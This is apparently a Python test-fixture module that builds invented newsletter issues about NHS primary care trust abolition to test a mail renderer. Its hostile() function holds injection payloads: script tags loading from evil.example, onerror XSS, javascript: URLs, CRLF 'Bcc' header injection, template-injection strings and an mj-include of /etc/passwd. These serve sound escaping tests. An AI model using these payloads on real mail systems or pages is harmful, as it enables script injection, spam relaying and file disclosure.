"""Invented issues for the tests of the mail."""

from dataclasses import replace
from datetime import UTC, date, datetime

from commissioning.domain.dates import Dated, Precision
from commissioning.domain.editions import (
    Amendment,
    Edition,
    EditionStatus,
    Item,
    ItemSource,
    ItemStance,
    Section,
)
from commissioning.domain.tags import HolderKind, Position
from desk.mail.letter import Letterhead

HEAD = Letterhead(
    name="Commissioning Digest",
    url="https://digest.example/",
    footer="You asked for this on Thursdays.\nReply to this mail and an editor reads it.",
    unsubscribe="https://lists.example/leave",
)
DAY = date(2010, 11, 4)
WORDS = (
    "If a group of eight practices can manage its risk, who is Whitehall to tell it otherwise, and"
    " who will answer to the patients of the ninth when the money of the other eight has run out?"
)


def dated(day: date) -> Dated:
    """A day of a page."""
    moment = datetime(day.year, day.month, day.day, tzinfo=UTC)
    return Dated(moment=moment, precision=Precision.DAY, found_in="meta")


def source(name: str, number: int = 1) -> ItemSource:
    """An article of an outlet."""
    slug = name.lower().replace(" ", "-")
    url = f"https://www.{slug}.example/news/2010/11/primary-care-trusts-hollowed-out-{number}"
    return ItemSource(name=name, url=url, published=dated(date(2010, 11, 2)))


def stance(
    position: Position = Position.OPPOSE, *, confidence: float = 0.9, words: str = WORDS
) -> ItemStance:
    """A side with its evidence."""
    return ItemStance(
        holder="Managers in Partnership",
        holder_kind=HolderKind.ORGANISATION,
        organisation="managers-in-partnership",
        speaker="Des Farrimond",
        office="national officer",
        question="pct-abolition",
        label="abolishing PCTs",
        position=position,
        confidence=confidence,
        words=words,
        method="direct+reader",
        article=source("HSJ").url,
        source="HSJ",
        published=dated(date(2010, 11, 2)),
    )


def item(number: int, *, stances: tuple[ItemStance, ...] = ()) -> Item:
    """A story with two outlets and a line."""
    return Item(
        key=f"k{number}",
        story=f"2010-11-02-primary-care-trusts-hollowed-out-before-success-{number:06x}",
        article=source("HSJ", number).url,
        headline=f"Primary care trusts ‘hollowed out’ before successors exist, says poll {number}",
        url=source("HSJ", number).url,
        sources=(source("HSJ", number), source("GP", number)),
        stances=stances,
        line=(
            "A survey of 88 chief executives finds boards thinning *two years* early. The union of"
            f" managers wants none closed until its [work has a home](/questions/q{number}.html)."
        ),
        note="Ring Des before noon.",
    )


def edition(items: int = 6, *, sections: int = 3) -> Edition:
    """An issue with so many items in so many sections."""
    sides = (stance(Position.OPPOSE), stance(Position.SUPPORT))
    made = [item(number, stances=sides if number % 2 else ()) for number in range(1, items + 1)]
    each = -(-items // sections)
    names = ("The handover", "Who will commission", "Who is selling")
    return Edition(
        id=7,
        number=42,
        day=DAY,
        title="Who minds the shop while it is being closed?",
        introduction=(
            "A third of trusts expect to lose a director by Christmas, and their successors cannot"
            " agree how large to be. Between the two, the *suppliers* have begun to call.\n\n"
            "This week: who leaves, who grows, and [who is selling](https://sales.example/a?b=1&c=2)."
        ),
        sections=tuple(
            Section(name=names[at % 3], items=tuple(made[at * each : (at + 1) * each]))
            for at in range(sections)
        ),
        version=3,
        saved_at=datetime(2010, 11, 3, 16, 30, tzinfo=UTC),
    )


def hostile() -> Edition:
    """An issue in which every word tries to be more than a word."""
    evil = '"><script src="//evil.example/x.js"></script><img src=x onerror=alert(1)>'
    nasty = replace(
        item(1, stances=(replace(stance(words=evil), holder=evil, speaker=evil, label=evil),)),
        headline=f"{evil}\r\nBcc: all@evil.example {{{{ .Subscriber.Email }}}} {{% x %}}",
        sources=(
            ItemSource(name=evil, url="javascript:alert(1)", published=None),
            ItemSource(name="A & B", url='https://a.example/"onload="x', published=None),
        ),
        url="data:text/html,<script>alert(1)</script>",
        line=(
            f"{evil} [go](javascript:alert(1)) [on](data:text/html,x) ![](https://evil.example/p.png)"
            " </mj-text></mj-column><mj-include path='/etc/passwd' /> `{{ .x }}` <!-- [if mso] -->"
        ),
    )
    return replace(
        edition(2),
        title=f"Title{evil}\r\nBcc: all@evil.example\r\n\r\nbody\x00\u2028\u202e",
        introduction=f"{evil}\n\n<iframe src='//evil.example'></iframe>\n\nFrom now on.\n\n.\n",
        sections=(Section(name=evil, items=(nasty,)),),
    )


def published(items: int = 6) -> Edition:
    """The same after publication, with something put right since."""
    amendment = Amendment(
        at=datetime(2010, 11, 5, 9, 0, tzinfo=UTC),
        text="The survey asked **88** chief executives, not 87.",
    )
    return replace(
        edition(items),
        status=EditionStatus.PUBLISHED,
        published_at=datetime(2010, 11, 4, 7, 0, tzinfo=UTC),
        amendments=(amendment,),
    )
